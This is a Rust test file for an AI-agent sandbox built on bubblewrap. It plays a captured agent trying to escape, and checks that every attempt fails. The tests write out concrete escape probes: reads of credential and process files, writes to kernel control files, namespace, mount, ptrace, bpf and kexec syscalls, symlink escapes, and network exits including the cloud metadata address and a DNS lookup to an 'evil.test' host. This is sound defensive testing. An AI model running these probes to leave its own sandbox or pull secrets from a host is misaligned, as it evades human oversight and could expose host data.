//! A captured agent looks for a way out of the real sandbox, by the kinds of the threat model:
//! files, processes, system calls, network.

mod kit;

use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::SocketAddr;

use kit::{DONE, Machine, config, finish, step};
use nightshift_runner::sandbox::{Bind, Exit, Part, SandboxError, SandboxHost, Stdin};

#[tokio::test]
async fn a_command_runs_in_the_tree_and_its_status_comes_back() {
    let machine = Machine::new().await;
    let ran = machine
        .sh("pwd; id -u; echo $HOME; echo x > made; exit 7")
        .await;
    assert_eq!(ran.exit, Ok(Exit::Exited { code: 7 }), "{ran:?}");
    assert_eq!(ran.out, "/workspace\n1000\n/home/agent\n");
    let again = machine.sh("cat made; kill -9 $$").await;
    assert_eq!(again.exit, Ok(Exit::Signalled { signal: 9 }), "{again:?}");
    assert_eq!(again.out, "x\n");
}

#[tokio::test]
async fn a_command_that_does_not_exist_names_itself() {
    let machine = Machine::new().await;
    let mut step = step("");
    step.command = vec!["no-such-agent".to_owned()];
    let ran = finish(machine.sandbox().spawn(&step).await.expect("a start")).await;
    let Err(SandboxError::Part { part, cause }) = ran.exit else {
        panic!("{ran:?}")
    };
    assert_eq!(part, Part::Command);
    assert!(cause.contains("no-such-agent"), "{cause}");
}

#[tokio::test]
async fn input_is_closed_a_file_or_a_pipe() {
    let machine = Machine::new().await;
    assert_eq!(machine.sh("cat; echo end").await.out, "end\n");
    let prompt = std::path::Path::new("prompt.md");
    machine
        .run
        .write_control(prompt, b"do it\n", false)
        .expect("a prompt");
    let mut from_file = step("cat");
    from_file.stdin = Stdin::File("/nightshift/prompt.md".into());
    let ran = finish(machine.sandbox().spawn(&from_file).await.expect("a start")).await;
    assert_eq!(ran.out, "do it\n", "{ran:?}");
    let mut piped = step("read line; echo got $line");
    piped.stdin = Stdin::Pipe;
    let mut running = machine.sandbox().spawn(&piped).await.expect("a start");
    let mut stdin = running.stdin.take().expect("a pipe");
    tokio::io::AsyncWriteExt::write_all(&mut stdin, b"hello\n")
        .await
        .expect("written");
    assert_eq!(finish(running).await.out, "got hello\n");
}

#[tokio::test]
async fn nothing_of_the_host_is_visible() {
    let machine = Machine::new().await;
    let secret = machine.dir.path().join("secret");
    std::fs::write(&secret, "CANARY-7361").expect("a file");
    let script = format!(
        "for f in /etc/shadow /sys /run /var /root /home/*/.ssh; do if test -e $f; then exit 1; fi; done # tidy-ok(local): no sandbox has it
         cat {} /etc/passwd 2>/dev/null; env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n';
         ls -l /proc/*/fd 2>/dev/null; ls / /etc; cat /proc/self/mountinfo; dmesg 2>/dev/null; cat /proc/kcore 2>/dev/null | head -c 9; true",
        secret.display()
    );
    let ran = machine.sh(&script).await;
    assert_eq!(ran.exit, DONE, "{ran:?}");
    for hidden in ["CANARY-7361", "CARGO_", "resolv.conf", "root:$", "root:*"] {
        assert!(
            !ran.out.contains(hidden),
            "{hidden} is visible:\n{}",
            ran.out
        );
    }
    assert!(
        ran.out.contains("HOME=/home/agent"),
        "the canary's own search works"
    );
}

#[tokio::test]
async fn the_system_and_the_control_directory_cannot_be_written() {
    let machine = Machine::new().await;
    let ran = machine
        .sh("for d in / /usr /usr/bin /etc /nightshift /nightshift/bin /nightshift/sockets /dev /proc/sys/kernel; do
               if touch $d/x 2>/dev/null; then echo wrote $d; fi; done
             for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/kernel/hostname /nightshift/bin/nightshift /etc/passwd; do
               if echo x 2>/dev/null > $f; then echo wrote $f; fi; done; true")
        .await;
    assert_eq!((ran.exit.clone(), ran.out.as_str()), (DONE, ""), "{ran:?}");
}

/// Every call that serves to leave, with the answer that is expected.
const CALLS: &str = r#"
import ctypes, os, errno, socket, fcntl
libc = ctypes.CDLL(None, use_errno=True)
def call(name, number, *args):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
    code = ctypes.get_errno()
    if result != -1 or code not in (errno.EPERM, errno.ENOSYS, errno.EAFNOSUPPORT):
        print("open:", name, result, code)
buffer = ctypes.addressof(ctypes.create_string_buffer(4096))
for name, flag in [("user", 0x10000000), ("mount", 0x20000), ("pid", 0x20000000), ("net", 0x40000000),
                   ("ipc", 0x8000000), ("uts", 0x4000000), ("cgroup", 0x2000000), ("time", 0x80)]:
    call("unshare " + name, 272, flag)
    if name != "time":
        call("clone " + name, 56, flag | 17, 0, 0, 0, 0)
call("unshare user and more", 272, 0x10000000 | 0x200)
call("clone3", 435, buffer, 88)
call("setns", 308, 0, 0)
call("mount", 165, buffer, buffer, buffer, 0, 0)
call("umount2", 166, buffer, 0)
call("pivot_root", 155, buffer, buffer)
call("move_mount", 429, 0, buffer, 0, buffer, 0)
call("open_tree", 428, 0, buffer, 0)
call("fsopen", 430, buffer, 0)
call("ptrace", 101, 16, 1, 0, 0)
call("process_vm_readv", 310, 1, buffer, 1, buffer, 1, 0)
call("pidfd_getfd", 438, 0, 0, 0)
call("bpf", 321, 0, buffer, 128)
call("io_uring_setup", 425, 8, buffer)
call("io_uring_enter", 426, 0, 0, 0, 0, 0)
call("keyctl", 250, 0, -3, 0)
call("add_key", 248, buffer, buffer, 0, 0, -3)
call("request_key", 249, buffer, buffer, 0, 0)
call("userfaultfd", 323, 0)
call("perf_event_open", 298, buffer, 0, -1, -1, 0)
call("open_by_handle_at", 304, 0, buffer, 0)
call("init_module", 175, buffer, 0, buffer)
call("finit_module", 313, 0, buffer, 0)
call("kexec_load", 246, 0, 0, 0, 0)
call("syslog", 103, 3, buffer, 10)
call("x32 unshare", 0x40000000 + 272, 0x10000000)
call("x32 getpid", 0x40000000 + 39)
call("ioctl TIOCSTI", 16, 0, 0x5412, buffer)
call("ioctl TIOCSTI with high bits", 16, 0, 0x100005412, buffer)
call("socket vsock", 41, 40, 1, 0)
call("socket packet", 41, 17, 3, 0)
call("socket alg", 41, 38, 5, 0)
call("socket bluetooth", 41, 31, 3, 0)
call("raw inet", 41, 2, 3, 1)
pid = os.fork()
if pid == 0:
    os._exit(0)
os.waitpid(pid, 0)
import threading
t = threading.Thread(target=lambda: None); t.start(); t.join()
a, b = socket.socketpair(); a.send(b"x")
print("status:", [l.strip() for l in open("/proc/self/status") if l.startswith(("NoNewPrivs", "CapEff", "Seccomp:"))])
"#;

#[cfg(target_arch = "x86_64")]
#[tokio::test]
async fn calls_that_serve_to_leave_are_refused_and_ordinary_ones_are_not() {
    let machine = Machine::new().await;
    let mut calls = step("");
    calls.command = ["/usr/bin/python3", "-c", CALLS]
        .map(str::to_owned)
        .to_vec();
    let ran = finish(machine.sandbox().spawn(&calls).await.expect("a start")).await;
    assert_eq!(ran.exit, DONE, "{ran:?}");
    assert_eq!(
        ran.out, "status: ['CapEff:\\t0000000000000000', 'NoNewPrivs:\\t1', 'Seccomp:\\t2']\n",
        "{ran:?}"
    );
}

#[tokio::test]
async fn set_user_programs_and_new_namespaces_give_nothing() {
    let machine = Machine::new().await;
    let ran = machine
        .sh("unshare -Ur true && echo user namespace; su -c id root </dev/null 2>/dev/null && echo su;
             mount -t tmpfs x /tmp && echo mount; chroot / true 2>/dev/null && echo chroot; chown 0 /workspace && echo chown; true")
        .await;
    assert_eq!((ran.exit.clone(), ran.out.as_str()), (DONE, ""), "{ran:?}");
}

/// Each way out must fail by itself within two seconds.
const NETWORK: &str = r#"
import socket, time
def way(name, act):
    begin = time.monotonic()
    try:
        act(); print("open:", name)
    except OSError as error:
        pass
    if time.monotonic() - begin > 2: print("slow:", name)
def tcp(family, address):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5); s.connect(address)
def udp(family, address):
    s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b"x", address)
way("tcp", lambda: tcp(socket.AF_INET, ("192.0.2.1", 80)))
way("metadata", lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)))
way("udp dns", lambda: udp(socket.AF_INET, ("8.8.8.8", 53)))
way("quic", lambda: udp(socket.AF_INET, ("192.0.2.1", 443)))
way("tcp6", lambda: tcp(socket.AF_INET6, ("2001:db8::1", 80)))
way("udp6", lambda: udp(socket.AF_INET6, ("2001:4860:4860::8888", 53)))
way("icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
way("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"x", ("192.0.2.1", 0)))
way("dns", lambda: socket.getaddrinfo("secret-label.evil.test", 80))
way("multicast", lambda: udp(socket.AF_INET, ("224.0.0.251", 5353)))
print("done")
"#;

#[tokio::test]
async fn no_packet_leaves() {
    let machine = Machine::new().await;
    // An abstract socket of the host, such as a desktop's bus, is another namespace's.
    let name = SocketAddr::from_abstract_name(b"nightshift-test-abstract").expect("a name");
    let bound = std::os::unix::net::UnixListener::bind_addr(&name).expect("a socket");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let script = format!(
        "{NETWORK}\nway('host loopback', lambda: tcp(socket.AF_INET, ('127.0.0.1', {port})))
way('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0nightshift-test-abstract'))"
    );
    let mut network = step("");
    network.command = ["/usr/bin/python3", "-c", &script]
        .map(str::to_owned)
        .to_vec();
    let ran = finish(machine.sandbox().spawn(&network).await.expect("a start")).await;
    assert_eq!(
        (ran.exit.clone(), ran.out.as_str()),
        (DONE, "done\n"),
        "{ran:?}"
    );
    drop((bound, listener));
}

#[tokio::test]
async fn a_link_left_where_something_is_bound_does_not_lead_outside() {
    let mut machine = Machine::new().await;
    let outside = machine.dir.path().join("outside");
    std::fs::create_dir(&outside).expect("a directory");
    let planted = format!(
        "ln -s /oldroot{} /home/agent/.session; ln -s {} /home/agent/.other",
        outside.display(),
        outside.display()
    );
    assert_eq!(machine.sh(&planted).await.exit, DONE);
    let session = machine.dir.path().join("session");
    machine.host.shared_dir(&session).expect("a directory");
    machine.spec.writable.push(Bind {
        source: session.clone(),
        target: "/home/agent/.session/deep".into(),
    });
    let ran = machine.sh("echo kept > /home/agent/.session/deep/f").await;
    assert_eq!(ran.exit, DONE, "{ran:?}");
    assert!(session.join("f").exists());
    assert_eq!(std::fs::read_dir(&outside).expect("a directory").count(), 0);
}

#[tokio::test]
async fn nothing_may_be_put_over_the_system() {
    let mut machine = Machine::new().await;
    machine.spec.read_only.push(Bind {
        source: "/usr".into(),
        target: "/etc/x".into(),
    });
    let refused = machine.sandbox().spawn(&step("true")).await;
    assert_eq!(refused.err(), Some(SandboxError::Place("/etc/x".into())));
}

#[tokio::test]
async fn without_bubblewrap_no_machine_opens() {
    let dir = tempfile::tempdir().expect("a directory");
    let mut without = config(dir.path());
    without.bwrap = "/nonexistent/bwrap".into();
    let error = SandboxHost::open(without)
        .await
        .expect_err("no bubblewrap, no sandbox");
    let text = error.to_string();
    assert!(
        text.contains("bubblewrap") && text.contains("install the package"),
        "{text}"
    );
    // A program that is no sandbox is found out by the probe.
    let mut broken = config(dir.path());
    broken.bwrap = "/bin/true".into();
    assert!(SandboxHost::open(broken).await.is_err());
}

#[tokio::test]
async fn two_runners_do_not_share_a_data_directory() {
    let machine = Machine::new().await;
    let second = SandboxHost::open(config(machine.dir.path())).await;
    assert!(
        matches!(second, Err(SandboxError::DataInUse(_))),
        "{second:?}"
    );
}

#[test]
fn all_of_this_holds_for_an_ordinary_user() {
    kit::again_as_an_ordinary_user("all_of_this_holds_for_an_ordinary_user");
}
